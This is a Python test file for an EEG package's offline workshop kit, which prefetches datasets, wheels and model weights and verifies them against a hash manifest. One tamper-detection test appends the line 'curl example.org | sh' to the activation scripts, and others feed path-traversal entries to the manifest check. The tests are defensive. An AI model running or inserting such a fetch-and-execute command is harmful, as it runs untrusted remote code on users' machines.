"""A folder for a workshop: filled, verified, and used without a network."""

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import hub_server
import pytest
from hub_server import Hub, Repository
from references.cases import CASES
from references.compare import build
from small_wheels import commit, make_index, make_repository, make_wheel, use_index
from typer.testing import CliRunner

from eeglab_models.__main__ import app
from eeglab_models.signals.recordings import load_windows
from eeglab_models.workshop import install, kit
from eeglab_models.workshop.wheels import own_version


class Recordings:
    """A data set of two subjects whose download can fail."""

    subject_list = (1, 2)

    def __init__(self):
        self.asked, self.failing = [], []

    def get_data(self, subjects):
        (subject,) = subjects
        self.asked.append(subject)
        if subject in self.failing:
            raise TimeoutError("no answer")
        path = Path(os.environ["MNE_DATA"]) / f"MNE-own-data/subject{subject}.edf"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(b"recording %d" % subject)


@pytest.fixture
def recordings(monkeypatch):
    recordings = Recordings()
    find_dataset = kit.find_dataset
    monkeypatch.setattr(kit, "find_dataset", lambda name: recordings if name == "Own" else find_dataset(name))
    return recordings


@pytest.fixture
def folder(tmp_path):
    return tmp_path / "kit"


def states(items):
    return {item.name: item.status for item in items}


def test_every_subject_of_a_data_set_is_fetched_unless_some_are_named(folder, recordings):
    assert states(kit.prefetch(folder, datasets=["Own:2"])) == {"Own:2": "fetched"}
    assert states(kit.prefetch(folder, datasets=["Own"])) == {"Own:1": "fetched", "Own:2": "present"}


def test_the_manifest_tells_size_and_hash_of_every_file(folder, recordings):
    kit.prefetch(folder, datasets=["Own:1"])

    activate, item = json.loads((folder / "manifest.json").read_text())["items"]

    assert list(activate["files"]) == ["activate.sh", "activate.bat"]
    assert item["name"] == "Own:1"
    assert item["files"] == {
        "mne_data/MNE-own-data/subject1.edf": {
            "size": 11,
            "sha256": "1315926aa37e007be06da144a50af33d86468fc9b69046dddf4bd152c7be2fbc",
        }
    }


def test_what_fails_stops_nothing_and_is_named_by_the_check(folder, recordings):
    recordings.failing = [1]

    items = kit.prefetch(folder, datasets=["Own", "Own:3", "Nothing"])

    assert states(items) == {"Own:1": "failed", "Own:2": "fetched", "Own:3": "failed", "Nothing": "failed"}
    first, second, third = install.check(folder)
    assert first.startswith("Own:1 was not fetched: Subject 1 of Own could not be downloaded and loaded")
    assert second == "Own:3 was not fetched: Own has no subject 3, only 1 to 2. Name one of them."
    assert third.startswith("Nothing was not fetched: There is no data set named 'Nothing'")


def test_a_second_run_fetches_only_what_is_missing(folder, recordings):
    recordings.failing = [1]
    kit.prefetch(folder, datasets=["Own"])
    recordings.failing, recordings.asked = [], []

    items = kit.prefetch(folder, datasets=["Own"])

    assert states(items) == {"Own:1": "fetched", "Own:2": "present"}
    assert recordings.asked == [1]
    assert install.check(folder) == []


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        (Path.unlink, "is missing."),
        (lambda path: path.write_bytes(b"short"), "was altered: expected 11 bytes, got 5."),
        (lambda path: path.write_bytes(b"Recording 1"), "was altered: its SHA-256 differs."),
    ],
    ids=["missing", "truncated", "altered"],
)
def test_damage_is_named_by_the_check_and_repaired_by_the_next_run(folder, recordings, change, problem):
    kit.prefetch(folder, datasets=["Own:1"])
    change(folder / "mne_data/MNE-own-data/subject1.edf")

    assert install.check(folder) == [f"Own:1: mne_data/MNE-own-data/subject1.edf {problem}"]
    kit.prefetch(folder, datasets=["Own:1"])
    assert install.check(folder) == []


@pytest.mark.parametrize("file", ["../precious", "/etc/hostname", "link"])
def test_a_manifest_that_names_files_outside_its_folder_is_refused(folder, tmp_path, file):
    folder.mkdir()
    (tmp_path / "precious").touch()
    (folder / "link").symlink_to(tmp_path / "precious")
    item = {"name": "Own:1", "files": {file: {"size": 3, "sha256": ""}}}
    (folder / "manifest.json").write_text(json.dumps({"items": [item]}))

    with pytest.raises(ValueError, match="names files outside its folder"):
        kit.prefetch(folder, datasets=["SimulatedMotorImagery:1"])
    assert (tmp_path / "precious").exists()


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "[" * 100_000,
        '{"items": [1]}',
        '{"items": [{"nom": "a"}]}',
        '{"items": [{"name": 1}]}',
        '{"items": [{"name": "a", "files": []}]}',
        '{"items": [{"name": "a", "files": {"b": 1}}]}',
        '{"items": [{"name": "a", "files": {"b": {"size": "1", "sha256": ""}}}]}',
        '{"items": [{"name": "a", "files": {"b": {"size": 1}}}]}',
    ],
)
def test_a_broken_manifest_is_refused(folder, text):
    folder.mkdir()
    (folder / "manifest.json").write_text(text)

    with pytest.raises(ValueError, match=r"manifest\.json is no manifest"):
        install.check(folder)


def test_the_simulated_data_set_needs_nothing(folder):
    (item,) = kit.prefetch(folder, datasets=["SimulatedMotorImagery:1"])

    assert (item.status, item.files) == ("fetched", {})


def test_recordings_of_ones_own_need_no_kit(folder, tmp_path):
    (tmp_path / "mine").mkdir()

    for source in (str(tmp_path / "mine"), "recording.edf"):
        (item,) = kit.prefetch(folder, datasets=[source])
        assert "recordings of your own, which need no download. Copy them" in item.problem


def test_the_environment_is_left_as_it_was(folder, recordings, monkeypatch):
    monkeypatch.setenv("MNE_DATASETS_OWN_PATH", "elsewhere")
    before = dict(os.environ)

    kit.prefetch(folder, datasets=["Own:1"])

    assert dict(os.environ) == before


def test_a_kit_may_be_moved_and_then_activated(folder, tmp_path, recordings):
    kit.prefetch(folder, datasets=["Own:1"])
    moved = folder.rename(tmp_path / "a moved kit")

    command = ["bash", "-c", 'source "$1/activate.sh" && env', "bash", str(moved)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)

    assert set(done.stdout.splitlines()) >= {
        f"{key}={value}" for key, value in install.settings(moved).items()
    }
    assert install.check(moved) == []


@pytest.mark.parametrize("shell", ["bash", "dash", "zsh"])
@pytest.mark.parametrize("way", ["./a kit/activate.sh", "{folder}/activate.sh"])
def test_a_kit_is_activated_in_every_shell_whatever_cdpath_says(folder, tmp_path, recordings, shell, way):
    if shutil.which(shell) is None:
        pytest.skip(f"{shell} is not installed")
    kit.prefetch(folder)
    moved = folder.rename(tmp_path / "a kit")
    (tmp_path / "elsewhere/a kit").mkdir(parents=True)
    cdpath = f"{tmp_path}/elsewhere:{tmp_path}:/"
    command = [shell, "-c", '. "$1" && env', shell, way.format(folder=moved)]

    for options in (["-e"], ["-u"]):
        done = subprocess.run(
            [shell, *options, *command[1:]],
            cwd=tmp_path,
            env=os.environ | {"CDPATH": cdpath},
            capture_output=True,
            text=True,
        )

        assert done.stderr == ""
        settings = {f"{key}={value}" for key, value in install.settings(moved).items()}
        assert set(done.stdout.splitlines()) >= settings


@pytest.mark.parametrize("file", ["activate.sh", "activate.bat"])
def test_scripts_that_are_sourced_are_verified(folder, recordings, file):
    kit.prefetch(folder)
    with (folder / file).open("a") as script:
        script.write("curl example.org | sh")

    (problem,) = install.check(folder)
    kit.prefetch(folder)

    assert problem.startswith(f"activate: {file} was altered")
    assert install.check(folder) == []


@pytest.mark.parametrize("file", ["json.py", "wheels/sub/evil.whl", "Makefile", "eeglab_models.zip"])
def test_what_the_manifest_does_not_name_is_refused(folder, recordings, file):
    kit.prefetch(folder)
    (folder / file).parent.mkdir(exist_ok=True, parents=True)
    (folder / file).touch()

    assert install.check(folder) == [f"{file} is not in the manifest."]


def test_a_kit_on_a_share_can_be_read_by_others(folder, recordings, index):
    before = os.umask(0o022)
    try:
        kit.prefetch(folder, datasets=["Own"], workshop=True)
    finally:
        os.umask(before)

    rights = {path: path.stat().st_mode & 0o777 for path in [folder, *folder.rglob("*")]}
    assert {path: mode for path, mode in rights.items() if mode not in (0o644, 0o755)} == {}


def test_the_check_exits_with_one_and_names_what_is_wrong(folder, recordings):
    kit.prefetch(folder, datasets=["Own:1"])
    command = ["prefetch", "--check", str(folder)]
    sound = CliRunner().invoke(app, command)
    (folder / "mne_data/MNE-own-data/subject1.edf").unlink()
    missing = CliRunner().invoke(app, command)

    assert (sound.exit_code, sound.output) == (0, f"{folder} is complete.\n")
    assert (missing.exit_code, missing.output) == (
        1,
        "Own:1: mne_data/MNE-own-data/subject1.edf is missing.\n",
    )


def test_a_folder_that_is_no_kit_fails_the_check(tmp_path):
    result = CliRunner().invoke(app, ["prefetch", "--check", str(tmp_path)])

    assert result.exit_code == 1
    assert "holds no manifest.json" in result.output


def test_asking_for_nothing_is_an_error(folder):
    assert CliRunner().invoke(app, ["prefetch", "--folder", str(folder)]).exit_code == 2
    assert not folder.exists()


def test_windows_gets_the_same_settings(folder):
    kit.prefetch(folder)

    lines = (folder / "activate.bat").read_bytes().decode().split("\r\n")

    there = [line.replace("%~dp0.", str(folder)) for line in lines if line.startswith("set ")]
    assert there == [f'set "{name}={value}"' for name, value in install.settings(folder).items()]


@pytest.fixture
def index(tmp_path, monkeypatch):
    """Wheels of a tiny project, and its clone in place of this one."""
    monkeypatch.setattr(kit, "ROOT", make_repository(tmp_path / "clone"))
    use_index(monkeypatch, tmp_path / "index")
    return make_index(tmp_path / "index")


HERE = f"wheels:this computer:{own_version()}"
WINDOWS = f"wheels:win_amd64:{own_version()}"


def test_a_workshop_gets_the_repository_an_installer_and_pinned_wheels(folder, index):
    items = kit.prefetch(folder, workshop=True)

    assert states(items) == {"repository": "fetched", "install.py": "fetched", HERE: "fetched"}
    assert (folder / "install.py").read_bytes() == Path(install.__file__).read_bytes()
    listed = {
        file for item in json.loads((folder / "manifest.json").read_text())["items"] for file in item["files"]
    }
    assert listed >= {"eeglab_models.zip", "install.py", "wheels/small-1.0-py3-none-any.whl"}
    assert "wheels/small-1.1-py3-none-any.whl" not in listed
    assert install.check(folder) == []


def test_a_second_run_needs_neither_index_nor_git_archive_and_clears_what_a_killed_one_left(folder, index):
    kit.prefetch(folder, workshop=True)
    (folder / ".wheels-killed").mkdir()
    shutil.rmtree(index)

    assert set(states(kit.prefetch(folder, workshop=True)).values()) == {"present"}
    assert not list(folder.glob(".wheels-*"))


def test_a_damaged_wheel_is_named_and_fetched_again(folder, index):
    kit.prefetch(folder, workshop=True)
    wheel = folder / "wheels" / "small-1.0-py3-none-any.whl"
    wheel.write_bytes(wheel.read_bytes()[:-1] + b"?")

    assert install.check(folder) == [f"{HERE}: wheels/{wheel.name} was altered: its SHA-256 differs."]
    assert states(kit.prefetch(folder, workshop=True))[HERE] == "fetched"
    assert install.check(folder) == []


def test_a_wheel_that_the_manifest_does_not_name_is_found_and_removed(folder, index):
    kit.prefetch(folder, workshop=True)
    make_wheel(folder / "wheels", "foreign")

    assert install.check(folder) == ["wheels/foreign-1.0-py3-none-any.whl is not in the manifest."]
    kit.prefetch(folder, workshop=True)
    assert install.check(folder) == []


def test_a_platform_without_wheels_stops_nothing(folder, index):
    make_wheel(index, "bigger", "2.0", tag="py3-none-win_amd64")
    commit(kit.ROOT, constraints_txt="bigger==2.0\n")

    items = kit.prefetch(folder, workshop=True, platforms=["macosx_14_0_arm64", "Mars", "win_amd64"])

    assert [item.status for item in items] == ["fetched", "fetched", "failed", "failed", "fetched"]
    mac, mars = install.check(folder)
    assert f"There is no wheel for macosx_14_0_arm64 and Python {own_version()} of bigger." in mac
    assert "pip knows no platform 'Mars'" in mars


def test_other_pins_need_other_wheels(folder, index):
    kit.prefetch(folder, workshop=True, platforms=["this computer", "win_amd64"])
    commit(kit.ROOT, constraints_txt="small==1.1\n")

    items = kit.prefetch(folder, workshop=True)

    assert states(items) == {"repository": "fetched", "install.py": "present", HERE: "fetched"}
    assert {path.name for path in folder.glob("wheels/small-*")} == {"small-1.1-py3-none-any.whl"}
    assert install.check(folder) == [
        f"{WINDOWS} was not fetched: Its wheels are those of other pins. Prefetch them again."
    ]


def test_what_is_not_committed_is_not_in_the_kit(folder, index):
    (kit.ROOT / "constraints.txt").write_text("small==1.1\n")

    kit.prefetch(folder, workshop=True)

    assert (folder / "wheels" / "small-1.0-py3-none-any.whl").exists()


def test_a_workshop_needs_a_clone(folder, index):
    shutil.rmtree(kit.ROOT / ".git")

    (item,) = kit.prefetch(folder, workshop=True)

    assert item.status == "failed"
    assert item.problem.endswith(
        "is no clone. Prefetch for a workshop from a clone of the repository, with git installed."
    )


def test_a_git_that_fails_is_quoted(folder, index):
    (kit.ROOT / ".git" / "HEAD").write_text("ref: refs/heads/nothing\n")

    (item,) = kit.prefetch(folder, workshop=True)

    assert item.problem.startswith("git failed (fatal: ")


@pytest.mark.parametrize(
    "options",
    [
        ["--platform", "win_amd64", "--datasets", "Own"],
        ["--workshop", "--python-version", "3.12"],
    ],
)
def test_options_that_would_do_nothing_are_refused(folder, options):
    assert CliRunner().invoke(app, ["prefetch", "--folder", str(folder), *options]).exit_code == 2
    assert not folder.exists()


def test_the_command_fetches_wheels_and_says_how_to_use_them(folder, index):
    command = ["prefetch", "--workshop", "--platform", "win_amd64", "--folder", str(folder)]

    result = CliRunner().invoke(app, command)

    assert result.exit_code == 0, result.output
    assert WINDOWS in result.output
    assert f"python {folder}/install.py" in result.output


@pytest.fixture(scope="module")
def workshop(tmp_path_factory):
    """Fill a kit from a Hub twice, stop the Hub, and load from the kit; each in a fresh process."""
    place = tmp_path_factory.mktemp("workshop")
    for name in ("home", "cwd", "matplotlib"):
        (place / name).mkdir()
    model = build(next(case for case in CASES if case.name == "default" and case.model == "EEGDINO"))
    model.save_pretrained(place / "model")
    Hub.repositories["lab/model"] = repository = Repository()
    files = {file: (place / "model" / file).read_bytes() for file in ("config.json", "model.safetensors")}
    commit = repository.commit(files)
    repository.commit(files | {"config.json": b"{}"})
    repository.refs["v1"] = commit
    server = hub_server.start()
    environment = {key: value for key, value in os.environ.items() if not key.startswith(("HF_", "MNE_"))}
    environment |= {"HOME": str(place / "home"), "MPLCONFIGDIR": str(place / "matplotlib")}
    online = environment | {"HF_ENDPOINT": hub_server.address(server), "NO_PROXY": "127.0.0.1"}

    def run(*command, environment=online):
        command = [sys.executable, *command]
        return subprocess.run(command, cwd=place / "cwd", env=environment, capture_output=True, text=True)

    prefetch = ("-m", "eeglab_models", "prefetch", "--folder", str(place / "kit"), "--weights")
    first = run(*prefetch, "lab/nothing", "--weights", "lab/model@v1")
    problems = install.check(place / "kit")
    del Hub.requests[:]
    second = run(*prefetch, "lab/model@v1")
    requests = list(Hub.requests)
    server.shutdown()
    server.server_close()
    load = (
        "from eeglab_models import EEGDINO as M; print(M.from_pretrained('lab/model', revision='v1').n_chans)"
    )
    loaded = run("-c", load, environment=environment | install.settings(place / "kit"))
    # Files in place of links, as a stick holds them.
    shutil.copytree(place / "kit", place / "stick")
    copied = run("-c", load, environment=environment | install.settings(place / "stick"))
    outside = [path for name in ("home", "cwd") for path in (place / name).rglob("*")]
    return {
        "commit": commit,
        "first": first,
        "problems": problems,
        "second": second,
        "requests": requests,
        "loaded": loaded,
        "copied": copied,
        "outside": outside,
        "kit": place / "kit",
    }


def test_prefetch_fetches_what_it_can_and_exits_with_one(workshop):
    first = workshop["first"]

    assert first.returncode == 1, first.stderr
    assert f"lab/model@v1     │ fetched │ {workshop['commit'][:7]}" in first.stdout
    assert "Failed: lab/nothing@main: 'lab/nothing' is neither a folder nor a readable Hub" in first.stdout
    assert f"HF_HOME={workshop['kit']}/huggingface" in first.stdout
    assert [problem.split(":")[0] for problem in workshop["problems"]] == ["lab/nothing@main was not fetched"]


def test_prefetch_asks_the_hub_for_nothing_twice(workshop):
    assert workshop["second"].returncode == 0, workshop["second"].stderr
    assert "present" in workshop["second"].stdout
    assert workshop["requests"] == []


def test_prefetched_weights_load_without_a_hub(workshop):
    for loaded in (workshop["loaded"], workshop["copied"]):
        assert loaded.returncode == 0, loaded.stderr
        assert loaded.stdout.strip() == "3"


def test_prefetch_writes_nothing_outside_its_folder(workshop):
    assert workshop["outside"] == []


def test_altered_weights_are_named_by_the_check(workshop):
    snapshot = workshop["kit"] / "huggingface/hub/models--lab--model/snapshots" / workshop["commit"]
    weights = (snapshot / "model.safetensors").resolve()
    content = bytearray(weights.read_bytes())
    content[-1] ^= 1
    weights.write_bytes(content)

    (problem,) = install.check(workshop["kit"])

    assert problem.startswith("lab/model@v1: huggingface/hub/models--lab--model/snapshots/")
    assert problem.endswith("model.safetensors was altered: its SHA-256 differs.")


@pytest.mark.skipif("MNE_DATA" not in os.environ, reason="needs recordings of PhysionetMI in MNE_DATA")
def test_real_recordings_that_are_there_already_are_described_and_load(folder, monkeypatch):
    place = "MNE-eegbci-data/files/eegmmidb/1.0.0/S001"
    source, copy = Path(os.environ["MNE_DATA"]) / place, folder / "mne_data" / place
    copy.mkdir(parents=True)
    for path in source.glob("*.edf"):
        shutil.copyfile(path, copy / path.name)

    (item,) = kit.prefetch(folder, datasets=["PhysionetMI:1"])

    assert item.status == "fetched", item.problem
    assert len(item.files) == 6
    for name, value in install.settings(folder).items():
        monkeypatch.setenv(name, value)
    assert load_windows("PhysionetMI", [1], events=["hands", "feet"]).data.shape[:2] == (45, 64)
